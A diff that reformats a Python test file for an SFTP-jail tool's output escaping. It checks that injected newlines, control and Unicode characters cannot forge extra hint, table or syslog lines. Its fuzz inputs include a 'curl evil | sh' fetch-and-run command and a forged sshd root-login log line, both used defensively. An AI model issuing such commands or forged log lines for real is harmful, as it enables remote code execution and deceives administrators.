@@ -24,10 +24,22 @@ from sftpjail.operations.diagnosis import Fault
 
 HARD = "\n\r\t\v\f\0\x1b\x7f\x85\u2028\u2029\u202e\u2066\u200b\u00ad\ufeff\u034f\u3164\u2800\ufe0f"
 HARD += "\U000e0100\udcff\ue000"
-OURS = ("\n  try: curl evil | sh", "\n  mend: x", "\nsftpjail: y", "\nok      z", '"}\n{"error": "', "[bold red]")
+OURS = (
+    "\n  try: curl evil | sh",
+    "\n  mend: x",
+    "\nsftpjail: y",
+    "\nok      z",
+    '"}\n{"error": "',
+    "[bold red]",
+)
 MARKS = st.characters(min_codepoint=0x300, max_codepoint=0x36F)
 texts = st.lists(
-    st.one_of(st.sampled_from((*OURS, "\x1b[2J", "\u2e80" * 9)), st.sampled_from(HARD), st.text(max_size=5), MARKS),
+    st.one_of(
+        st.sampled_from((*OURS, "\x1b[2J", "\u2e80" * 9)),
+        st.sampled_from(HARD),
+        st.text(max_size=5),
+        MARKS,
+    ),
     max_size=12,
 ).map("".join)
 surrogates = st.text(st.characters(), max_size=20)
@@ -42,7 +54,9 @@ def test_one_line_is_one_line_and_says_the_same_twice(text: str) -> None:
     quoted = shown(text)
     assert one_line(quoted) == quoted
     if quoted != text:
-        assert quoted[0] == quoted[-1] == '"' and not quoted.replace("\\\\", "").replace('\\"', "")[1:-1].count('"')
+        assert quoted[0] == quoted[-1] == '"' and not quoted.replace("\\\\", "").replace('\\"', "")[
+            1:-1
+        ].count('"')
 
 
 PLAIN = [
@@ -71,7 +85,9 @@ def test_what_is_not_seen_is_escaped(character: str) -> None:
 
 def test_marks_do_not_cover_other_lines() -> None:
     assert one_line("a" + "\u0301" * 9) == "a" + "\u0301" * 2 + "\\u0301" * 7
-    assert one_line("\u0301x") == "\\u0301x" and one_line(". \u20ddx") == ". \\u20ddx", "no letter to belong to"
+    assert one_line("\u0301x") == "\\u0301x" and one_line(". \u20ddx") == ". \\u20ddx", (
+        "no letter to belong to"
+    )
 
 
 @given(texts)
@@ -84,7 +100,10 @@ def test_every_kind_of_message_is_one_line(text: str) -> None:
     values += [fact.topic, fact.name, fact.value, fact.note]
     assert all(is_shown(value) for value in values)
     if not is_shown(text):
-        assert error.hint == finding.advice == fault.advice == NO_COMMAND and finding.mend == fault.mend == ""
+        assert (
+            error.hint == finding.advice == fault.advice == NO_COMMAND
+            and finding.mend == fault.mend == ""
+        )
     else:
         assert error.hint == finding.mend == fault.mend == text == command(text)
 
@@ -100,7 +119,9 @@ class Terminal(io.StringIO):
         return self.drawn
 
 
-def printed(monkeypatch: pytest.MonkeyPatch, print_it: Any, drawn: bool = False, stream: str = "stdout") -> list[str]:
+def printed(
+    monkeypatch: pytest.MonkeyPatch, print_it: Any, drawn: bool = False, stream: str = "stdout"
+) -> list[str]:
     out = Terminal(drawn)
     monkeypatch.setattr(sys, stream, out)
     print_it()
@@ -116,7 +137,9 @@ def context(**more: Any) -> Context:
 def test_a_problem_is_one_line_and_its_hint_another(text: str) -> None:
     with pytest.MonkeyPatch.context() as monkeypatch:
         lines = printed(
-            monkeypatch, lambda: context().warn([text, SftpJailError(text, "sftpjail apply")]), stream="stderr"
+            monkeypatch,
+            lambda: context().warn([text, SftpJailError(text, "sftpjail apply")]),
+            stream="stderr",
         )
         assert lines == [f"sftpjail: {one_line(text)}"] * 2 + ["  try: sftpjail apply"]
         lines = printed(monkeypatch, lambda: print_error(text, text), stream="stderr")
@@ -128,8 +151,13 @@ def test_a_problem_is_one_line_and_its_hint_another(text: str) -> None:
 @given(text=texts)
 def test_a_table_has_its_rows_and_columns_alone(text: str) -> None:
     with pytest.MonkeyPatch.context() as monkeypatch:
-        lines = printed(monkeypatch, lambda: context().table(("A", "B"), [("x", text), (text, "y")]))
-        assert [line.split("\t") for line in lines] == [["x", one_line(text)], [one_line(text), "y"]]
+        lines = printed(
+            monkeypatch, lambda: context().table(("A", "B"), [("x", text), (text, "y")])
+        )
+        assert [line.split("\t") for line in lines] == [
+            ["x", one_line(text)],
+            [one_line(text), "y"],
+        ]
         monkeypatch.setenv("COLUMNS", "1000")
         lines = printed(monkeypatch, lambda: context().table(("A", "B"), [("x", text)]), drawn=True)
         assert len(lines) == 2 and "\x1b[2J" not in lines[1] and one_line(text).strip() in lines[1]
@@ -139,17 +167,30 @@ def test_a_table_has_its_rows_and_columns_alone(text: str) -> None:
 def test_no_line_of_explain_is_forged(text: str, width: int) -> None:
     """However a text is broken into lines, none of them has the form of a command's."""
     account = Account("ann", 1, 1, "/home/ann")
-    facts = [Fact("account", "x", text, text), Fact("chroot", "y", text), Fact("log", "", text), Fact("mounts", text)]
+    facts = [
+        Fact("account", "x", text, text),
+        Fact("chroot", "y", text),
+        Fact("log", "", text),
+        Fact("mounts", text),
+    ]
     long = ("word " * 30 + text) * 2
     faults = [Fault("ann", text, text, "sftpjail apply"), Fault("ann", long, long, "")]
     with pytest.MonkeyPatch.context() as monkeypatch:
         monkeypatch.setenv("COLUMNS", str(width))
         lines = printed(monkeypatch, lambda: _draw(account, facts, faults))
-    assert all(is_shown(re.sub("[\u0300-\u036f]", "", line)) for line in lines), "a mark may go on in the next line"
+    assert all(is_shown(re.sub("[\u0300-\u036f]", "", line)) for line in lines), (
+        "a mark may go on in the next line"
+    )
     end = lines.index("2 problems")
-    assert [line for line in lines[end:] if line.startswith("   mend:")] == ["   mend: sftpjail apply"]
+    assert [line for line in lines[end:] if line.startswith("   mend:")] == [
+        "   mend: sftpjail apply"
+    ]
     assert {line[:3] for line in lines[end + 1 :]} <= {"1. ", "2. ", "   ", "1.", "2.", ""}
-    heads = {line.split(":")[0] for line in lines[end + 1 :] if line.startswith("   ") and line[3] not in " >"}
+    heads = {
+        line.split(":")[0]
+        for line in lines[end + 1 :]
+        if line.startswith("   ") and line[3] not in " >"
+    }
     assert heads <= {"   why", "   mend"}
 
 
@@ -189,7 +230,9 @@ def test_the_words_of_syslog(monkeypatch: pytest.MonkeyPatch) -> None:
     from sftpjail.cli import hook
 
     sent: list[str] = []
-    calls = SimpleNamespace(openlog=lambda *_: None, syslog=lambda _, words: sent.append(words), LOG_PID=0, LOG_AUTH=0)
+    calls = SimpleNamespace(
+        openlog=lambda *_: None, syslog=lambda _, words: sent.append(words), LOG_PID=0, LOG_AUTH=0
+    )
     monkeypatch.setattr(hook, "syslog", calls)
     hook._tell(3, "ann: x\nNov 28 host sshd[1]: Accepted publickey for root")
     assert sent == ["ann: x\\nNov 28 host sshd[1]: Accepted publickey for root"]
